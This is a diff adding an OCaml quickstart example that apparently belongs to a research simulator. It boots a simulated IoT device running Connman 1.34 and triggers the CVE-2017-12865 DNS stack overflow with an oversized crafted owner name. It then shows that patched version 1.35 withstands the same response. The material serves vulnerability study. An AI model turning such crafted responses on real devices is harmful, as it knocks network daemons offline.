@@ -1,0 +1,87 @@
+(* Quickstart: boot a simulated IoT device running vulnerable Connman,
+   feed it a benign DNS response, then the CVE-2017-12865 trigger.
+
+     dune exec examples/quickstart.exe *)
+
+module Dnsproxy = Connman.Dnsproxy
+
+let say fmt = Format.printf (fmt ^^ "@.")
+
+let () =
+  say "== Connman CVE-2017-12865 quickstart ==";
+  say "";
+  (* 1. Boot: ARMv7 device, Connman 1.34, W⊕X enabled (a realistic IoT
+     build — the overflow does not care). *)
+  let device =
+    Dnsproxy.create
+      {
+        Dnsproxy.version = Connman.Version.v1_34;
+        arch = Loader.Arch.Arm;
+        profile = Defense.Profile.wx;
+        boot_seed = 42;
+        diversity_seed = None;
+      }
+  in
+  let proc = Dnsproxy.process device in
+  say "booted %s on %s with protections: %s"
+    proc.Loader.Process.spec.Loader.Process.name
+    (Loader.Arch.name proc.Loader.Process.arch)
+    (Defense.Profile.name proc.Loader.Process.profile);
+  Format.printf "%a@." Memsim.Memory.pp_layout proc.Loader.Process.mem;
+
+  (* 2. A legitimate lookup: the proxy forwards a query; the (honest)
+     response parses in the simulated CPU and lands in the cache. *)
+  let name = Dns.Name.of_string "ipv4.connman.net" in
+  let query = Dnsproxy.make_query device name in
+  let honest =
+    Dns.Packet.encode
+      (Dns.Packet.response ~query
+         [ Dns.Packet.a_record name ~ttl:300 ~ipv4:0x5DB8D822 ])
+  in
+  say "benign response  -> %s"
+    (Format.asprintf "%a" Dnsproxy.pp_disposition
+       (Dnsproxy.handle_response device honest));
+  (match Dnsproxy.cache_lookup device name with
+  | Some ip ->
+      say "cache now maps ipv4.connman.net -> %d.%d.%d.%d"
+        ((ip lsr 24) land 0xFF) ((ip lsr 16) land 0xFF)
+        ((ip lsr 8) land 0xFF) (ip land 0xFF)
+  | None -> say "cache miss?!");
+  say "machine executed %d instructions for that parse" (Dnsproxy.last_steps device);
+  say "";
+
+  (* 3. The attack: a Type-A response whose owner name expands past the
+     1024-byte stack buffer in parse_response (Listing 1 of the paper). *)
+  let query = Dnsproxy.make_query device name in
+  let hostile =
+    Dns.Craft.hostile_response ~query
+      ~raw_name:(Dns.Craft.dos_name ~size:8192)
+      ()
+  in
+  say "hostile response -> %s"
+    (Format.asprintf "%a" Dnsproxy.pp_disposition
+       (Dnsproxy.handle_response device hostile));
+  say "daemon alive: %b  (denial of service)" (Dnsproxy.alive device);
+
+  (* 4. The fix: the same bytes against Connman 1.35. *)
+  let patched =
+    Dnsproxy.create
+      {
+        Dnsproxy.version = Connman.Version.v1_35;
+        arch = Loader.Arch.Arm;
+        profile = Defense.Profile.wx;
+        boot_seed = 42;
+        diversity_seed = None;
+      }
+  in
+  let query = Dnsproxy.make_query patched name in
+  let hostile =
+    Dns.Craft.hostile_response ~query
+      ~raw_name:(Dns.Craft.dos_name ~size:8192)
+      ()
+  in
+  say "";
+  say "same attack vs patched 1.35 -> %s (alive: %b)"
+    (Format.asprintf "%a" Dnsproxy.pp_disposition
+       (Dnsproxy.handle_response patched hostile))
+    (Dnsproxy.alive patched)
